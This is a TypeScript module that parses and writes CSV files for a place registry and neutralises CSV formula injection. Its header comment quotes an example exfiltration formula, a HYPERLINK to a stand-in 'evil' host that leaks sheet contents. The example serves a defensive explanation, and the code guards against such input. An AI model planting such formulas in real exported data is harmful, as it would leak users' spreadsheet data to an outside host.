/**
 * CSV reading and writing (RFC 4180: quotes, doubled quotes, line breaks inside quotes),
 * with the delimiter detected from the header (',' or ';' — Brazilian open data, the ANP
 * files among them, use ';' and a UTF-8 byte-order mark). Every record keeps the line it
 * starts on, so a bad row is reported by its line in the file.
 *
 * CSV injection (OWASP, "CSV Injection"): a spreadsheet opening a CSV runs a cell that begins
 * with =, +, -, @, tab or carriage return as a formula — a registry name such as
 * `=HYPERLINK("http://evil/?"&A1)` would leak the sheet or run a command. Every TEXT cell we
 * write that begins with one of those (or with ', so that the rule can be undone) gets a
 * leading ' (spreadsheets show it as text); cells that are data numbers — written from
 * numbers, in the place registries the lon and lat columns only — are left as they are, so a
 * negative coordinate stays a number. Reading undoes it: a cell that begins with ' loses
 * that one character (also the text marker spreadsheets themselves put before text).
 */
import type { PlaceRecord } from '../domain/place.ts';
import { describeValue, InputError } from '../core/input/validate.ts';
import { parseNumber, type RawRow } from './rows.ts';
import { parseWkt, toWkt } from './wkt.ts';

export interface CsvTable {
  delimiter: string;
  header: string[];
  /** Data records with the 1-based line each starts on (the header is line 1). */
  rows: { line: number; cells: string[] }[];
}

export function detectDelimiter(firstLine: string): ',' | ';' | '\t' {
  const count = (ch: string) => {
    let n = 0;
    let quoted = false;
    for (const c of firstLine) {
      if (c === '"') quoted = !quoted;
      else if (!quoted && c === ch) n++;
    }
    return n;
  };
  const semi = count(';');
  const comma = count(',');
  const tab = count('\t');
  if (tab > semi && tab > comma) return '\t';
  return semi > comma ? ';' : ',';
}

export function parseCsv(textIn: string, delimiter?: string): CsvTable {
  const text = textIn.charCodeAt(0) === 0xfeff ? textIn.slice(1) : textIn;
  const firstBreak = text.search(/\r?\n/);
  const delim = delimiter ?? detectDelimiter(firstBreak < 0 ? text : text.slice(0, firstBreak));
  const records: { line: number; cells: string[] }[] = [];
  let cells: string[] = [];
  let cell = '';
  let quoted = false;
  let line = 1;
  let startLine = 1;
  let i = 0;
  const n = text.length;
  let atRecordStart = true;
  const endRecord = () => {
    cells.push(unneutralise(cell));
    // A blank line is not a record.
    if (!(cells.length === 1 && cells[0] === '')) records.push({ line: startLine, cells });
    cells = [];
    cell = '';
    atRecordStart = true;
  };
  while (i < n) {
    const c = text[i] as string;
    if (atRecordStart) {
      startLine = line;
      atRecordStart = false;
    }
    if (quoted) {
      if (c === '"') {
        if (text[i + 1] === '"') {
          cell += '"';
          i += 2;
          continue;
        }
        quoted = false;
        i++;
        continue;
      }
      if (c === '\n') line++;
      cell += c;
      i++;
      continue;
    }
    if (c === '"' && cell === '') {
      quoted = true;
      i++;
      continue;
    }
    if (c === delim) {
      cells.push(unneutralise(cell));
      cell = '';
      i++;
      continue;
    }
    if (c === '\r' && text[i + 1] === '\n') {
      i++;
      continue;
    }
    if (c === '\n') {
      endRecord();
      line++;
      i++;
      continue;
    }
    cell += c;
    i++;
  }
  if (!atRecordStart || cell !== '' || cells.length > 0) endRecord();
  const [head, ...rows] = records;
  return { delimiter: delim, header: (head?.cells ?? []).map((h) => h.trim()), rows };
}

function quote(v: string, delim: string): string {
  return /["\r\n]/.test(v) || v.includes(delim) ? `"${v.replace(/"/g, '""')}"` : v;
}

/** Text a spreadsheet would take for a formula (or that begins with the ' that marks text). */
const FORMULA_START = /^[=+\-@\t\r']/;

/** A text cell as written: with a leading ' when a spreadsheet would take it for a formula. */
export function neutralise(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** A cell as read: without the leading ' that marks text. */
export function unneutralise(cell: string): string {
  return cell.startsWith("'") ? cell.slice(1) : cell;
}

/** One cell: a number as it is (a data number), text neutralised and quoted as needed. */
function cellOf(v: string | number | null | undefined, delim: string): string {
  if (v === null || v === undefined) return '';
  if (typeof v === 'number') return String(v);
  return quote(neutralise(v), delim);
}

/** A CSV: numbers are written as data numbers, strings as text (neutralised: see above). */
export function formatCsv(header: readonly string[], rows: Iterable<readonly (string | number | null | undefined)[]>, delim = ','): string {
  const lines = [header.map((h) => cellOf(h, delim)).join(delim)];
  for (const r of rows) lines.push(r.map((v) => cellOf(v, delim)).join(delim));
  return `${lines.join('\r\n')}\r\n`;
}

// ---------------------------------------------------------------------------
// Place registries as CSV: read (lon/lat columns or WKT) and written (the same, plus the record as JSON)

const LON_KEYS = ['lon', 'lng', 'long', 'longitude', 'x'];
const LAT_KEYS = ['lat', 'latitude', 'y'];
const WKT_KEYS = ['wkt', 'geometry', 'geom', 'the_geom'];

export function readCsvRows(text: string, file: string): RawRow[] {
  const t = parseCsv(text);
  if (t.header.length === 0) throw InputError.of(file, 'an empty file', 'a CSV with a header line');
  const lower = t.header.map((h) => h.toLowerCase());
  const lonCol = lower.findIndex((h) => LON_KEYS.includes(h));
  const latCol = lower.findIndex((h) => LAT_KEYS.includes(h));
  const wktCol = lower.findIndex((h) => WKT_KEYS.includes(h));
  if ((lonCol < 0 || latCol < 0) && wktCol < 0)
    throw InputError.of(
      `${file}: header`,
      JSON.stringify(t.header.join(t.delimiter)),
      'columns lon and lat (or longitude/latitude, x/y) or a wkt column',
    );
  return t.rows.map(({ line, cells }) => {
    const props: Record<string, unknown> = {};
    const problems: { field: string; found: string; expected: string }[] = [];
    t.header.forEach((h, i) => {
      if (i === lonCol || i === latCol || i === wktCol) return;
      const v = cells[i];
      if (v !== undefined && v.trim() !== '') props[h] = v.trim();
    });
    if (cells.length > t.header.length)
      problems.push({ field: 'columns', found: `${cells.length} cells`, expected: `${t.header.length} (as in the header)` });
    let geometry: unknown = null;
    if (wktCol >= 0 && (cells[wktCol] ?? '').trim() !== '') {
      const g = parseWkt((cells[wktCol] as string).trim());
      if (typeof g === 'string')
        problems.push({ field: t.header[wktCol] as string, found: JSON.stringify(cells[wktCol]?.slice(0, 40)), expected: g });
      else geometry = g;
    } else if (lonCol >= 0 && latCol >= 0) {
      const lon = parseNumber(cells[lonCol] ?? '', t.delimiter);
      const lat = parseNumber(cells[latCol] ?? '', t.delimiter);
      if (lon === null && lat === null) geometry = null;
      else if (lon === null || lat === null || Number.isNaN(lon) || Number.isNaN(lat)) {
        const bad = lon === null || Number.isNaN(lon) ? lonCol : latCol;
        problems.push({ field: t.header[bad] as string, found: describeValue(cells[bad] ?? ''), expected: 'a number in decimal degrees' });
      } else geometry = { type: 'Point', coordinates: [lon, lat] };
    }
    const row: RawRow = { line, label: `line ${line}`, props, geometry };
    if (problems.length > 0) row.readProblems = problems;
    return row;
  });
}

export const CSV_COLUMNS = [
  'registry_id',
  'external_id',
  'category',
  'status',
  'name',
  'source',
  'imported_at',
  'valid_from',
  'valid_to',
  'lon',
  'lat',
  'wkt',
  'data',
] as const;

export function toCsv(records: Iterable<PlaceRecord>): string {
  const rows: (string | number | null)[][] = [];
  for (const r of records) {
    const g = r.geometry;
    const { externalId, ...rest } = r.data;
    rows.push([
      r.id,
      typeof externalId === 'string' ? externalId : null,
      r.category,
      r.status,
      r.name,
      r.source,
      r.importedAt,
      r.validFrom,
      r.validTo,
      g?.type === 'Point' ? g.coordinates[0] : null,
      g?.type === 'Point' ? g.coordinates[1] : null,
      g && g.type !== 'Point' ? toWkt(g) : null,
      Object.keys(rest).length > 0 ? JSON.stringify(rest) : null,
    ]);
  }
  return formatCsv(CSV_COLUMNS, rows);
}
